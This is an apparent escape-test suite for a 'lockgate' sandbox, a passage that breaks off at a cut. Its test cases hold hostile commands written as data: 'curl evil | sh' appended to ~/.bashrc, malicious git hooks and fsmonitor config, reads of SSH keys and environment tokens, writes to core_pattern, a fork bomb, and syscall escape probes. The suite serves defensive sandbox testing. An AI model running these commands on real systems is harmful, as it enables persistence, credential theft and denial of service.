"""The escape suite: every class of escape the sandbox must stop, each case checking the HOST side
(files, metadata, processes, listeners) and not only that the command failed.

Stdlib only, so the very same cases run under pytest as root and, staged in a world-readable
directory, under /usr/bin/python3 as uid 65534 (see unprivileged_driver.py).
"""

from __future__ import annotations

import contextlib
import hashlib
import os
import re
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from sandbox import Completed, KernelSupport, Sandbox, SandboxPolicy

PY = sys.executable
SECRET = b"lockgate-secret-" + uuid.uuid4().hex.encode()


# --------------------------------------------------------------------------- the test area


@dataclass
class Area:
    """/var/tmp/lockgate-esc-*/: a workspace, and host files next to it that stay visible
    (read-only) inside the sandbox because the policy keeps /var/tmp un-hidden for the tests."""

    root: Path
    ws: Path
    outside: Path
    secret_dir: Path
    secret_file: Path
    cleanups: list[Callable[[], None]] = field(default_factory=list)

    @property
    def victim(self) -> Path:
        return self.outside / "victim"


def make_area() -> Area:
    root = Path(tempfile.mkdtemp(prefix="lockgate-esc-", dir="/var/tmp"))
    os.chmod(root, 0o755)
    ws, outside, secret = root / "ws", root / "outside", root / "secret"
    for d in (ws, outside, secret):
        d.mkdir()
    victim = outside / "victim"
    victim.write_bytes(b"original\n")
    os.chmod(victim, 0o644)
    with contextlib.suppress(OSError):
        os.setxattr(victim, "user.lockgate", b"kept")
    os.utime(victim, ns=(1_000_000_000_000_000_000, 1_000_000_000_000_000_000))
    (secret / "id_rsa").write_bytes(SECRET + b"\n")
    secret_file = root / "netrc"
    secret_file.write_bytes(SECRET + b" file\n")
    return Area(root, ws, outside, secret, secret_file)


def destroy_area(area: Area) -> None:
    for fn in reversed(area.cleanups):
        with contextlib.suppress(Exception):
            fn()
    shutil.rmtree(area.root, ignore_errors=True)


def snapshot(root: Path) -> dict[str, tuple[Any, ...]]:
    """Everything about a tree a write could change: names, types, modes, owners, times,
    sizes, contents, link targets and xattrs."""
    out: dict[str, tuple[Any, ...]] = {}
    if not os.path.lexists(root):
        return out
    paths = [root]
    if root.is_dir() and not root.is_symlink():
        paths += sorted(root.rglob("*"))
    for p in paths:
        st = os.lstat(p)
        digest = ""
        if stat.S_ISREG(st.st_mode):
            digest = hashlib.sha256(p.read_bytes()).hexdigest()
        link = os.readlink(p) if stat.S_ISLNK(st.st_mode) else ""
        try:
            xattrs = tuple(sorted(os.listxattr(p, follow_symlinks=False)))
        except OSError:
            xattrs = ()
        mtime = st.st_mtime_ns if not stat.S_ISDIR(st.st_mode) else 0
        out[str(p.relative_to(root))] = (
            st.st_mode,
            st.st_uid,
            st.st_gid,
            st.st_size,
            mtime,
            digest,
            link,
            xattrs,
        )
    return out


# --------------------------------------------------------------------------- cases


@dataclass(frozen=True)
class Case:
    name: str
    script: str  # run by `sh -c` in the workspace; {outside} {ws} {victim} {secret} {py} {area}
    check: Callable[[Area, Completed, dict[str, Any]], list[str]]
    setup: Callable[[Area, dict[str, Any]], None] | None = None
    policy: dict[str, Any] = field(default_factory=dict)
    timeout: float = 30.0
    needs: tuple[str, ...] = ()  # programs that must exist, else the case is skipped
    stdin: bytes | None = None
    files: tuple[tuple[str, str], ...] = ()  # written into the workspace first (placeholders too)


def fill(script: str, area: Area, ctx: dict[str, Any]) -> str:
    """Replace {name} placeholders (only known names: code braces are left alone)."""
    values: dict[str, Any] = {
        "outside": area.outside,
        "ws": area.ws,
        "victim": area.victim,
        "secret": area.secret_dir,
        "secret_file": area.secret_file,
        "py": PY,
        "area": area.root,
        **ctx,
    }
    return re.sub(
        r"\{(\w+)\}",
        lambda m: str(values[m.group(1)]) if m.group(1) in values else m.group(0),
        script,
    )


def _unchanged(*roots: str) -> Callable[[Area, dict[str, Any]], None]:
    def setup(area: Area, ctx: dict[str, Any]) -> None:
        ctx["before"] = {r: snapshot(_root(area, r)) for r in roots}

    return setup


def _root(area: Area, name: str) -> Path:
    return {
        "outside": area.outside,
        "secret": area.secret_dir,
        "git": area.ws / ".git",
        "ws": area.ws,
    }[name]


def _same(area: Area, ctx: dict[str, Any]) -> list[str]:
    fails = []
    for name, before in ctx["before"].items():
        after = snapshot(_root(area, name))
        if after != before:
            changed = sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))
            fails.append(f"host {name} changed: {changed}")
    return fails


def host_unchanged(*roots: str) -> Callable[[Area, Completed, dict[str, Any]], list[str]]:
    def check(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
        return _same(area, ctx)

    return check


def _and(
    *checks: Callable[[Area, Completed, dict[str, Any]], list[str]],
) -> Callable[[Area, Completed, dict[str, Any]], list[str]]:
    def check(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
        return [f for c in checks for f in c(area, r, ctx)]

    return check


def _out_lacks(*needles: bytes) -> Callable[[Area, Completed, dict[str, Any]], list[str]]:
    def check(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
        text = r.stdout + r.stderr
        return [f"output shows {n!r}" for n in needles if n in text]

    return check


def _out_has(*needles: bytes) -> Callable[[Area, Completed, dict[str, Any]], list[str]]:
    def check(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
        return [f"output lacks {n!r}: {r.stdout[-800:]!r} {r.stderr[-800:]!r}" for n in needles
                if n not in r.stdout]  # fmt: skip

    return check


def _absent_on_host(*rel: str) -> Callable[[Area, Completed, dict[str, Any]], list[str]]:
    def check(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
        paths = [fill(p, area, ctx) for p in rel]
        return [f"{p} exists on the host" for p in paths if os.path.lexists(p)]

    return check


# ---- helpers for cases that need something running on the host


def _host_sleeper(cwd_key: str = "outside") -> Callable[[Area, dict[str, Any]], None]:
    def setup(area: Area, ctx: dict[str, Any]) -> None:
        proc = subprocess.Popen(["sleep", "60"], cwd=_root(area, cwd_key))
        area.cleanups.append(proc.kill)
        ctx["hostpid"] = proc.pid
        ctx["proc"] = proc
        _unchanged("outside")(area, ctx)

    return setup


def _sleeper_alive(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    proc: subprocess.Popen[bytes] = ctx["proc"]
    return [] if proc.poll() is None else ["the host process was killed from the sandbox"]


class _Listener:
    """A host server that counts the connections it accepted."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        self.accepted = 0
        sock.listen(16)
        sock.settimeout(0.2)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._loop, daemon=True)
        self.thread.start()

    def _loop(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            self.accepted += 1
            conn.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join(2)
        self.sock.close()


def _listeners(area: Area, ctx: dict[str, Any]) -> None:
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.bind(("127.0.0.1", 0))
    ctx["tcp_port"] = tcp.getsockname()[1]
    tmpdir = Path(tempfile.mkdtemp(prefix="lg-sock-", dir="/tmp"))
    area.cleanups.append(lambda: shutil.rmtree(tmpdir, ignore_errors=True))
    unix_tmp = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix_tmp.bind(str(tmpdir / "s"))
    os.chmod(tmpdir / "s", 0o777)
    os.chmod(tmpdir, 0o755)
    ctx["unix_tmp"] = str(tmpdir / "s")
    xdg = Path(os.environ["XDG_RUNTIME_DIR"]) if os.environ.get("XDG_RUNTIME_DIR") else None
    unix_xdg = None
    if xdg is not None and str(xdg).startswith(str(area.root)):
        unix_xdg = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        unix_xdg.bind(str(xdg / "bus"))
    ctx["unix_xdg"] = str(xdg / "bus") if xdg is not None and unix_xdg else ""
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    name = f"lockgate-test-{uuid.uuid4().hex[:8]}"
    abstract.bind("\0" + name)
    ctx["abstract"] = name
    socks = [tcp, unix_tmp, abstract] + ([unix_xdg] if unix_xdg else [])
    ctx["listeners"] = [_Listener(s) for s in socks]
    for lst in ctx["listeners"]:
        area.cleanups.append(lst.close)


def _nobody_connected(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    time.sleep(0.2)
    n = sum(lst.accepted for lst in ctx["listeners"])
    return [f"{n} connection(s) reached host listeners"] if n else []


NET_PROBE = r"""
import socket, errno, sys
def attempt(name, fn):
    try:
        fn()
        print(name, "OPEN")
    except OSError as e:
        print(name, "BLOCKED", errno.errorcode.get(e.errno, e.errno))
def tcp():
    s = socket.socket(); s.settimeout(2); s.connect(("127.0.0.1", {tcp_port}))
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("127.0.0.1", 53))
def ipv6():
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.settimeout(2); s.connect(("::1", {tcp_port}))
def dns():
    socket.getaddrinfo("localhost.localdomain.example.com", 80)
def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
def packet():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
def netlink():
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
def vsock():
    socket.socket(40, socket.SOCK_STREAM, 0)
def unix_tmp():
    s = socket.socket(socket.AF_UNIX); s.connect("{unix_tmp}")
def unix_xdg():
    if not "{unix_xdg}": raise OSError(errno.ENOENT, "no xdg socket")
    s = socket.socket(socket.AF_UNIX); s.connect("{unix_xdg}")
def abstract():
    s = socket.socket(socket.AF_UNIX); s.connect("\0{abstract}")
def inet_pair():
    socket.socketpair(socket.AF_INET)
for n, f in list(globals().items()):
    if callable(f) and n not in ("attempt",) and not n.startswith("_") and f.__module__ == "__main__":
        attempt(n, f)
"""


def _net_check(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    lines = r.stdout.decode().splitlines()
    fails = [f"network: {line}" for line in lines if line.endswith("OPEN")]
    if len(lines) < 12:
        fails.append(f"probe did not run all attempts: {r.stdout!r} {r.stderr!r}")
    return fails + _nobody_connected(area, r, ctx)


SYSCALLS = r"""
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
def call(name, nr, *args):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
    e = ctypes.get_errno()
    print(name, "OK" if r >= 0 else "DENIED", errno.errorcode.get(e, e) if r < 0 else r)
buf = ctypes.create_string_buffer(256)
addr = ctypes.addressof(buf)
call("io_uring_setup", 425, 4, addr)
call("bpf", 321, 0, addr, 64)
call("perf_event_open", 298, addr, 0, -1, -1, 0)
call("userfaultfd", 323, 0)
call("keyctl", 250, 0, -3, 0)
call("add_key", 248, 0, 0, 0, 0, 0)
call("unshare_user", 272, 0x10000000)
call("unshare_net", 272, 0x40000000)
call("setns", 308, 0, 0)
call("mount", 165, 0, addr, 0, 0, 0)
call("umount2", 166, addr, 0)
call("open_tree", 428, -100, addr, 1)
call("fsopen", 430, addr, 0)
call("ptrace_attach", 101, 16, 1, 0, 0)
call("process_vm_readv", 310, 1, addr, 1, addr, 1, 0)
call("kexec_load", 246, 0, 0, 0, 0)
call("init_module", 175, 0, 0, addr)
call("personality", 135, 0x0040000)
call("clone_newuser", 56, 0x10000000 | 17, 0, 0, 0, 0)
call("clone_newns_highbits", 56, (1 << 32) | 0x00020000 | 17, 0, 0, 0, 0)
call("socket_inet_highbits", 41, (1 << 32) | 2, 1, 0)
call("pidfd_getfd", 438, 0, 0, 0)
call("open_by_handle_at", 304, -100, addr, 0)
call("acct", 163, 0)
call("swapoff", 168, addr)
call("settimeofday", 164, addr, 0)
"""


def _all_denied(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    lines = r.stdout.decode().splitlines()
    fails = [f"syscall allowed: {line}" for line in lines if " OK " in f" {line} "]
    if len(lines) < 24:
        fails.append(f"syscall probe incomplete: {r.stdout!r} {r.stderr!r}")
    return fails


TIOCSTI = r"""
import fcntl, os, errno, termios
def attempt(name, fn):
    try:
        fn(); print(name, "OPEN")
    except OSError as e:
        print(name, "BLOCKED", errno.errorcode.get(e.errno, e.errno))
master, slave = os.openpty()
attempt("tiocsti", lambda: fcntl.ioctl(slave, termios.TIOCSTI, b"x"))
attempt("tiocsti_high_bits", lambda: fcntl.ioctl(slave, termios.TIOCSTI | (1 << 32), b"x"))
attempt("tioclinux", lambda: fcntl.ioctl(slave, 0x541C, b"\x06"))
attempt("dev_tty", lambda: os.open("/dev/tty", os.O_WRONLY))
print("pts", sorted(os.listdir("/dev/pts")))
"""


def _tty_check(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    text = r.stdout.decode()
    fails = [f"tty: {line}" for line in text.splitlines() if line.endswith("OPEN")]
    if "tiocsti_high_bits BLOCKED" not in text or "dev_tty BLOCKED" not in text:
        fails.append(f"tty probe incomplete: {r.stdout!r} {r.stderr!r}")
    return fails


INT80_C = r"""
#include <stdio.h>
int main(void) {
    long r;
    /* i386 socket(AF_INET, SOCK_STREAM, 0) through the 32-bit entry */
    __asm__ volatile ("int $0x80" : "=a"(r) : "a"(359), "b"(2), "c"(1), "d"(0) : "memory");
    printf("int80 returned %ld\n", r);
    return r >= 0 ? 0 : 3;
}
"""

X32_C = r"""
#include <stdio.h>
#include <unistd.h>
#include <sys/syscall.h>
int main(void) {
    long r = syscall(0x40000000 | 41, 2, 1, 0); /* x32 socket(AF_INET) */
    printf("x32 returned %ld\n", r);
    return r >= 0 ? 0 : 3;
}
"""


def _killed_by_sigsys(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    if b"returned" in r.stdout and b"returned -" not in r.stdout:
        return [f"foreign-arch syscall succeeded: {r.stdout!r}"]
    if r.exit_code == 159 or r.signal == signal.SIGSYS:  # sh reports 128+31
        return []
    return [f"not killed by SIGSYS: code={r.exit_code} sig={r.signal} {r.stderr[-300:]!r}"]


def _marker_processes(marker: str) -> list[int]:
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if marker.encode() in f.read():
                    found.append(int(pid))
        except OSError:
            continue
    return found


def _no_marker_left(marker: str) -> Callable[[Area, Completed, dict[str, Any]], list[str]]:
    def check(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
        deadline = time.monotonic() + 3
        while time.monotonic() < deadline:
            left = _marker_processes(marker)
            if not left:
                return []
            time.sleep(0.05)
        for pid in left:
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        return [f"processes survived the command: {left}"]

    return check


def _timed_out(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    return [] if r.timed_out else [f"not timed out: {r}"]


def _git_setup(area: Area, ctx: dict[str, Any]) -> None:
    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(area.root)}
    git = [
        "git",
        "-c",
        "user.email=t@example.com",
        "-c",
        "user.name=t",
        "-c",
        "init.defaultBranch=main",
    ]
    subprocess.run([*git, "init", "-q"], cwd=area.ws, check=True, env=env)
    (area.ws / "a.txt").write_text("one\n")
    subprocess.run([*git, "add", "a.txt"], cwd=area.ws, check=True, env=env)
    subprocess.run([*git, "commit", "-q", "-m", "first"], cwd=area.ws, check=True, env=env)
    ctx["before"] = {"git": _git_protected(area)}


def _git_protected(area: Area) -> dict[str, Any]:
    g = area.ws / ".git"
    return {"hooks": snapshot(g / "hooks"), "config": snapshot(g / "config"), "dir": g.is_dir()}


def _git_same(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    now = _git_protected(area)
    return [f"host .git/{k} changed" for k in now if now[k] != ctx["before"]["git"][k]]


def _commits(area: Area) -> int:
    out = subprocess.run(
        ["git", "rev-list", "--count", "HEAD"], cwd=area.ws, capture_output=True, text=True
    )
    return int(out.stdout.strip() or 0)


def _two_commits(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    n = _commits(area)
    return [] if n == 2 else [f"expected 2 commits, host sees {n}: {r.stderr[-500:]!r}"]


def _new_repo_tamed(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    fails = []
    if _commits(area) != 1:
        fails.append(f"the commit made inside is not on the host: {r.stderr[-400:]!r}")
    config = (area.ws / ".git" / "config").read_text()
    if "hooksPath" in config or "fsmonitor" in config:
        fails.append(f"dangerous git config survived: {config!r}")
    hooks = area.ws / ".git" / "hooks"
    live = (
        [p.name for p in hooks.iterdir() if not p.name.endswith(".sample")]
        if hooks.is_dir()
        else []
    )
    if live:
        fails.append(f"hooks survived: {live}")
    return fails


def _git_symlink_setup(area: Area, ctx: dict[str, Any]) -> None:
    _git_setup(area, ctx)
    os.rename(area.ws / ".git", area.ws / ".realgit")
    os.symlink(".realgit", area.ws / ".git")
    ctx["before"] = {"git": _git_protected(area)}


def _git_symlink_back(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    git = area.ws / ".git"
    fails = []
    if not git.is_symlink() or os.readlink(git) != ".realgit":
        fails.append(f".git was not restored: {git.is_symlink()} {r.stderr[-300:]!r}")
    if not any("restored" in g for g in r.guard):
        fails.append(f"guard did not report the restore: {r.guard}")
    return fails + _git_same(area, r, ctx)


_PROC_FILES = ("/proc/sys/kernel/core_pattern", "/sys/kernel/mm/ksm/run")


def _host_proc_setup(area: Area, ctx: dict[str, Any]) -> None:
    ctx["proc"] = {p: Path(p).read_text() for p in _PROC_FILES if os.path.exists(p)}


def _host_proc_same(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    return [f"{p} changed on the host" for p, v in ctx["proc"].items() if Path(p).read_text() != v]


def _guarded(*names: str) -> Callable[[Area, Completed, dict[str, Any]], list[str]]:
    def check(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
        fails = [f"{n} exists on the host" for n in names if os.path.lexists(area.ws / n)]
        text = " ".join(r.guard)
        fails += [f"guard did not report {n}" for n in names if n not in text]
        return fails

    return check


def _protected_existing(area: Area, ctx: dict[str, Any]) -> None:
    (area.ws / ".lockgate.toml").write_text("[policy]\n")
    (area.ws / ".claude").mkdir()
    (area.ws / ".claude" / "settings.json").write_text("{}\n")
    ctx["before"] = {"ws": snapshot(area.ws)}


def _count_forks(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    try:
        n = int(r.stdout.decode().split()[-1])
    except (ValueError, IndexError):
        return [f"fork counter failed: {r.stdout!r} {r.stderr!r}"]
    return [] if n <= 40 else [f"{n} processes started, cap is 40"]


FORKS = r"""
import os, time
n = 0
try:
    for _ in range(400):
        if os.fork() == 0:
            time.sleep(30); os._exit(0)
        n += 1
except OSError:
    pass
print("forked", n)
"""


def _flood(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    fails = []
    if len(r.stdout) > 4096:
        fails.append(f"kept {len(r.stdout)} bytes, bound is 4096")
    if r.stdout_total != 30_000_000:
        fails.append(f"total counted {r.stdout_total}, wrote 30000000")
    if r.exit_code != 0:
        fails.append(f"flood command failed: {r}")
    return fails


def _no_late_files(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    time.sleep(1.6)
    return [f"{n} was written after the command ended" for n in ("late1", "late2", "late3")
            if (area.ws / n).exists()]  # fmt: skip


def _fsize(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    big = area.ws / "big"
    size = big.stat().st_size if big.exists() else 0
    return [] if size <= 1 << 20 else [f"file grew to {size} bytes past the 1 MiB limit"]


def _memory_capped(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    """#11: one process past the cap fails; with a memory cgroup, so do four that each stay
    below it but together go past it."""
    out = r.stdout.decode(errors="replace")
    fails = []
    if "GOT" in out:
        fails.append("one process allocated 600 MiB under a 256 MiB cap")
    if "one:" not in out:
        fails.append(f"the probe did not run: {r.stderr[-300:]!r}")
    if "MEMCG" in out and out.count("ALIVE") >= 4:
        fails.append("four processes held 4 x 100 MiB under a 256 MiB memory cgroup")
    return fails


def _secret_hidden(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    fails = _out_lacks(SECRET)(area, r, ctx)
    if b"READ-DONE" not in r.stdout:
        fails.append(f"secret probe did not finish: {r.stderr!r}")
    return fails + _same(area, ctx)


def _env_clean(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    text = r.stdout + r.stderr
    leaked = [k for k in ("OPENAI_API_KEY", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "sk-leak")
              if k.encode() in text]  # fmt: skip
    return [f"environment leaked: {leaked}"] if leaked else []


def _restore_env(name: str, old: str | None) -> Callable[[], None]:
    def restore() -> None:
        if old is None:
            os.environ.pop(name, None)
        else:
            os.environ[name] = old

    return restore


def _env_setup(area: Area, ctx: dict[str, Any]) -> None:
    for k in ("OPENAI_API_KEY", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"):
        area.cleanups.append(_restore_env(k, os.environ.get(k)))
        os.environ[k] = "sk-leak-" + k


def _proc_view(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    pids = [p for p in r.stdout.decode().split() if p.isdigit()]
    fails = [] if len(pids) <= 6 else [f"sandbox sees {len(pids)} processes: {pids}"]
    if str(ctx["hostpid"]) in pids:
        fails.append("host process visible in /proc")
    return fails + _sleeper_alive(area, r, ctx)


def _tmp_setup(area: Area, ctx: dict[str, Any]) -> None:
    d = Path(tempfile.mkdtemp(prefix="lg-host-", dir="/tmp"))
    os.chmod(d, 0o777)
    (d / "f").write_text("host\n")
    area.cleanups.append(lambda: shutil.rmtree(d, ignore_errors=True))
    ctx["tmpdir"] = str(d)
    ctx["tag"] = uuid.uuid4().hex[:8]
    ctx["before"] = {"tmp": snapshot(d)}


def _tmp_same(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    fails = []
    if snapshot(Path(ctx["tmpdir"])) != ctx["before"]["tmp"]:
        fails.append("host /tmp dir changed")
    if os.path.lexists(f"/tmp/lg-escape-{ctx['tag']}"):
        fails.append("file appeared in host /tmp")
    if b"private-tmp-ok" not in r.stdout:
        fails.append(f"private /tmp not writable: {r.stderr!r}")
    return fails


def _home_setup(area: Area, ctx: dict[str, Any]) -> None:
    ctx["tag"] = uuid.uuid4().hex[:8]
    home = Path(os.path.expanduser("~"))
    ctx["home"] = str(home)
    rc = home / ".bashrc"
    ctx["bashrc"] = rc.read_bytes() if rc.exists() else None


def _home_same(area: Area, r: Completed, ctx: dict[str, Any]) -> list[str]:
    home = Path(ctx["home"])
    fails = []
    if os.path.lexists(home / f"lockgate-escape-{ctx['tag']}"):
        fails.append("file created in the host home")
    rc = home / ".bashrc"
    if (rc.read_bytes() if rc.exists() else None) != ctx["bashrc"]:
        fails.append("~/.bashrc changed")
    return fails


def _symlink_setup(area: Area, ctx: dict[str, Any]) -> None:
    os.symlink(area.victim, area.ws / "link")
    os.symlink(area.outside, area.ws / "dirlink")
    _unchanged("outside")(area, ctx)


CASES: tuple[Case, ...] = (
    # ---- writes
    Case(
        "write-outside",
        "echo pwned > {victim}; echo new > {outside}/new; mkdir {outside}/d; rm -f {victim}; "
        "echo done",
        host_unchanged("outside"),
        _unchanged("outside"),
    ),
    Case(
        "write-host-tmp",
        "echo x > {tmpdir}/f; touch {tmpdir}/g; rm -f {tmpdir}/f; "
        "echo y > /tmp/lg-escape-{tag} && echo private-tmp-ok",
        _tmp_same,
        _tmp_setup,
    ),
    Case(
        "write-home",
        "touch ~/lockgate-escape-{tag}; echo 'curl evil | sh' >> ~/.bashrc; echo done",
        _home_same,
        _home_setup,
    ),
    Case(
        "write-through-symlinks",
        "echo x > link; echo y > dirlink/victim; touch dirlink/new; ln -sf /etc/passwd link2; "
        "echo z > link2; echo done",
        host_unchanged("outside"),
        _symlink_setup,
    ),
    Case(
        "write-through-hardlink",
        "ln {victim} hl && echo x >> hl; ln {victim} /tmp/hl && echo x >> /tmp/hl; echo done",
        _and(host_unchanged("outside"), _absent_on_host("{ws}/hl")),
        _unchanged("outside"),
    ),
    Case(
        "write-through-proc-root-and-cwd",
        "echo x > /proc/self/root{victim}; echo x > /proc/1/root{victim}; "
        "for p in /proc/[0-9]*; do echo x > $p/cwd/victim; echo x > $p/root{victim}; done; "
        "ls /proc/{hostpid}/cwd; echo done",
        _and(host_unchanged("outside"), _sleeper_alive),
        _host_sleeper("outside"),
    ),
    Case(
        "metadata-of-host-files",
        "chmod 777 {victim}; chown 65534:65534 {victim}; touch -d 2001-01-01 {victim}; "
        "truncate -s 0 {victim}; chmod 700 {outside}; "
        "{py} -I -c \"import os; os.setxattr('{victim}', 'user.evil', b'1')\"; "
        "{py} -I -c \"import os; os.removexattr('{victim}', 'user.lockgate')\"; "
        "{py} -I -c \"import os; os.utime('{victim}', (0, 0))\"; echo done",
        host_unchanged("outside"),
        _unchanged("outside"),
    ),
    Case(
        "move-host-files",
        # mv falls back to copy + unlink across mounts: the copy is a read (allowed), the
        # unlink must fail
        "mv {victim} {ws}/stolen; mv {outside} {ws}/o; rm -rf {outside}; echo done",
        host_unchanged("outside"),
        _unchanged("outside"),
    ),
    # ---- protected paths inside the workspace
    Case(
        "git-hooks-and-config",
        "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
        "rm -rf .git/hooks; mv .git/hooks .git/h2; git config core.hooksPath /tmp; "
        "echo '[core] fsmonitor = evil' >> .git/config; chmod 777 .git/config; "
        "mv .git/config .git/c2; touch -d 2001-01-01 .git/config; echo done",
        _git_same,
        _git_setup,
        needs=("git",),
    ),
    Case(
        "git-dir-cannot-move",
        "mv .git .git2; mv .git /tmp/g; rm -rf .git; ls -d .git && echo still-there",
        _and(_git_same, _out_has(b"still-there")),
        _git_setup,
        needs=("git",),
    ),
    Case(
        "git-commit-works",
        "echo two >> a.txt && git add a.txt && "
        "git -c user.email=t@example.com -c user.name=t commit -q -m second && echo committed",
        _and(_git_same, _two_commits, _out_has(b"committed")),
        _git_setup,
        needs=("git",),
    ),
    Case(
        "git-init-new-repo",
        "git init -q && git config core.hooksPath .h && git config core.fsmonitor evil && "
        "printf '#!/bin/sh\\necho pwn\\n' > .git/hooks/post-checkout && "
        "chmod +x .git/hooks/post-checkout && "
        "git -c user.email=t@example.com -c user.name=t commit -q --allow-empty -m x && echo ok",
        _and(_new_repo_tamed, _out_has(b"ok")),
        needs=("git",),
    ),
    Case(
        "git-symlink-restored",
        "rm .git; git init -q && printf '#!/bin/sh\\necho pwn\\n' > .git/hooks/post-checkout; "
        "chmod +x .git/hooks/post-checkout; echo pwn > .realgit/hooks/post-merge; "
        "git config -f .realgit/config core.hooksPath /tmp; echo done",
        _git_symlink_back,
        _git_symlink_setup,
        needs=("git",),
    ),
    Case(
        "proc-and-sys-read-only",
        "echo '|/tmp/evil' > /proc/sys/kernel/core_pattern; echo 1 > /proc/sysrq-trigger; "
        "echo 1 > /sys/kernel/mm/ksm/run; echo 0 > /proc/self/oom_score_adj; "
        "echo via-dev-stdout > /dev/stdout",
        _and(_host_proc_same, _out_has(b"via-dev-stdout")),
        _host_proc_setup,
    ),
    Case(
        "protected-absent",
        "mkdir -p .codex .claude .vscode .cursor/rules && echo x > .lockgate.toml && "
        "echo y > .aider.conf.yml && echo z > .codex/config.toml && echo done",
        _guarded(".codex", ".claude", ".vscode", ".cursor", ".lockgate.toml", ".aider.conf.yml"),
    ),
    Case(
        "protected-existing",
        "echo evil > .lockgate.toml; rm -f .lockgate.toml; mv .claude .c2; "
        "echo '{\"hooks\":1}' > .claude/settings.json; rm -rf .claude; chmod 777 .claude; "
        "echo done",
        host_unchanged("ws"),
        _protected_existing,
    ),
    # ---- reads
    Case(
        "secrets",
        "cat {secret}/id_rsa; ls -la {secret}; cat {secret_file}; "
        "cat /proc/self/root{secret}/id_rsa; grep -r lockgate-secret {area} 2>/dev/null; "
        "echo READ-DONE",
        _secret_hidden,
        _unchanged("secret"),
    ),
    Case(
        "environment",
        "env; cat /proc/1/environ; cat /proc/self/environ",
        _env_clean,
        _env_setup,
    ),
    Case(
        "other-processes",
        "ls /proc; kill -9 {hostpid}; kill -9 -1; echo done",
        _proc_view,
        _host_sleeper("outside"),
    ),
    # ---- network
    Case("network", "{py} -I probe.py", _net_check, files=(("probe.py", NET_PROBE),)),
    # ---- processes, terminal, syscalls
    Case("tiocsti-and-tty", "{py} -I probe.py", _tty_check, files=(("probe.py", TIOCSTI),)),
    Case(
        "syscalls-denied",
        "{py} -I probe.py; unshare -Ur true && echo UNSHARE-OK; "
        "setarch x86_64 -R true && echo SETARCH-OK; echo done",
        _and(_all_denied, _out_lacks(b"UNSHARE-OK", b"SETARCH-OK")),
        files=(("probe.py", SYSCALLS),),
    ),
    Case(
        "int-0x80",
        "gcc -o /tmp/i i.c && /tmp/i",
        _killed_by_sigsys,
        needs=("gcc",),
        files=(("i.c", INT80_C),),
    ),
    Case(
        "x32-syscall",
        "gcc -o /tmp/x x.c && /tmp/x",
        _killed_by_sigsys,
        needs=("gcc",),
        files=(("x.c", X32_C),),
    ),
    # ---- resources
    Case(
        "fork-cap",
        "{py} -I forks.py lockgate-forkcap",
        _and(_count_forks, _no_marker_left("lockgate-forkcap")),
        files=(("forks.py", FORKS),),
        policy={"max_processes": 40},
        timeout=60,
    ),
    Case(
        "fork-bomb",
        "bomb() { bomb | bomb & }; bomb; sleep 3",
        _no_marker_left("bomb | bomb"),
        policy={"max_processes": 64},
        timeout=4,
    ),
    Case(
        "output-flood",
        "head -c 30000000 /dev/zero",
        _flood,
    ),
    Case(
        "timeout-kills-tree",
        "setsid sleep 1000.25 & (sleep 1000.5 &) ; nohup sleep 1000.75 >/dev/null 2>&1 & "
        "sleep 1000.125",
